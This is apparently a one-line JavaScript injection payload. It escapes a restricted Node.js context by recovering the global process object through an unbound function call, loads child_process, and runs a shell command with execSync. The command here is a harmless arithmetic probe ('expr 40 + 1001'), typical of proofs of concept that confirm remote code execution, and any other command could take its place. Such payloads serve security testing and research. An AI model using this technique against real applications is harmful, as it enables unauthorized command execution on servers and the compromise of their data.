(function(){ return this.process }).call().mainModule.require('child_process').execSync('expr 40 + 1001',{stdio:'inherit'});
